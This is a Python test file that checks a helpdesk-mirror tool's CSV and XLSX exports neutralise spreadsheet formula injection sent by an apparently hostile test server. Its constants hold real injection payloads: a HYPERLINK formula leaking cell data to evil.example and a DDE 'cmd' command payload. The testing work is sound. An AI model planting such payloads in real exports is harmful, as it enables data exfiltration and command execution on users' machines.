"""Exports of what a hostile server sent: formula-like values in columns of every type."""

from __future__ import annotations

import csv
import json

from helpers_mirror import rows, run_cli
from hostile import Answer, Seen, forward, serve
from openpyxl import load_workbook

from etl.export import DEFAULT_TABLES as TABLES
from etl.export import PLAIN_NUMBER
from etl.sandbox import Sandbox

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
COMMAND = "+cmd|' /C calc'!A0"


def plant_formulas(path: str, document) -> None:
    """Formula-like text in text, number and time fields of every kind of record."""
    embedded = document.get("_embedded") if isinstance(document, dict) else None
    if not isinstance(embedded, dict):
        return
    for conversation in embedded.get("conversations", []):
        conversation["number"] = COMMAND
        if conversation.get("closedAt"):
            conversation["closedAt"] = HYPERLINK
        for field in conversation.get("customFields") or []:
            field.update(value="-2+3", text="")
        for thread in (conversation.get("_embedded") or {}).get("threads", []):
            thread["createdAt"] = "\t=1+1"
    for customer in embedded.get("customers", []):
        customer["createdAt"] = "-1+1"
        customer["firstName"] = "=cmd"
    for user in embedded.get("users", []):
        user["createdAt"] = "@now"
        user["jobTitle"] = "-5"  # a plain number: a spreadsheet reads it as -5, no formula
    for mailbox in embedded.get("mailboxes", []):
        mailbox["createdAt"] = "+1"  # a plain number too, though in a time column
        mailbox["name"] = "\r=1"


def rewriting(upstream: str, rewrite):
    """A proxy in front of the sandbox that passes every JSON answer through `rewrite`."""
    passing = forward(upstream)

    def handle(request: Seen) -> Answer:
        answer = passing(request)
        kind = {k.lower(): v for k, v in answer.headers.items()}.get("content-type", "")
        if "json" in kind and answer.body:
            document = json.loads(answer.body)
            rewrite(request.path, document)
            answer.body = json.dumps(document).encode()
        return answer

    return serve(handle)


def read(path):
    with open(path, encoding="utf-8-sig", newline="") as handle:
        header, *body = list(csv.reader(handle))
    return [dict(zip(header, row, strict=True)) for row in body]


def test_excel_csv_neutralises_formulas_in_number_time_and_text_columns(tmp_path, capsys):
    db = str(tmp_path / "mirror.db")
    with (
        Sandbox(seed=7, conversations=60) as sandbox,
        rewriting(sandbox.url, plant_formulas) as proxy,
    ):
        code, out, err = run_cli(
            capsys, "sync", "--url", proxy.url, "--api-key", sandbox.api_key, "--db", db
        )
    assert code == 0, err
    # The mirror keeps what was sent, and the sync says how many timestamps it kept as text.
    closed = rows(db, "SELECT count(*) FROM conversations WHERE closed_at = ?", (HYPERLINK,))
    kept = rows(
        db,
        "SELECT (SELECT count(*) FROM conversations WHERE closed_at IS NOT NULL)"
        " + (SELECT count(*) FROM threads) + (SELECT count(*) FROM customers)"
        " + (SELECT count(*) FROM users) + (SELECT count(*) FROM mailboxes)",
    )[0][0]
    assert closed[0][0] >= 5
    assert f"{kept:,} timestamps the server sent did not parse: kept as text, as sent" in out

    out_dir = tmp_path / "csv"
    code, _, err = run_cli(
        capsys, "export", "--db", db, "--format", "csv", "--excel", "--out", str(out_dir)
    )
    assert code == 0, err
    sheets = {table: read(out_dir / f"{table}.csv") for table in TABLES}
    for table, records in sheets.items():
        for record in records:
            for column, cell in record.items():
                if cell.startswith(TRIGGERS):
                    assert PLAIN_NUMBER.fullmatch(cell), (table, column, cell)
    conversations, threads = sheets["conversations"], sheets["threads"]
    assert {r["number"] for r in conversations} == {"'" + COMMAND}
    assert sum(r["closed_at"] == "'" + HYPERLINK for r in conversations) == closed[0][0]
    assert {r["conversation_number"] for r in threads} == {"'" + COMMAND}
    assert {r["created_at"] for r in threads} == {"'\t=1+1"}
    assert "'-2+3" in {r["Vendor"] for r in conversations}  # a custom field's text
    assert {r["created_at"] for r in sheets["customers"]} == {"'-1+1"}
    assert {r["first_name"] for r in sheets["customers"]} == {"'=cmd"}
    assert {r["created_at"] for r in sheets["users"]} == {"'@now"}
    assert {r["job_title"] for r in sheets["users"]} == {"-5"}
    assert {r["created_at"] for r in sheets["mailboxes"]} == {"+1"}
    assert {r["name"] for r in sheets["mailboxes"]} == {"'\r=1"}

    # XLSX writes the same values as text cells, never as formulas
    book = tmp_path / "x.xlsx"
    code, _, err = run_cli(capsys, "export", "--db", db, "--format", "xlsx", "--out", str(book))
    assert code == 0, err
    workbook = load_workbook(book)
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert {COMMAND, HYPERLINK, "\t=1+1", "=cmd", "@now"} <= texts
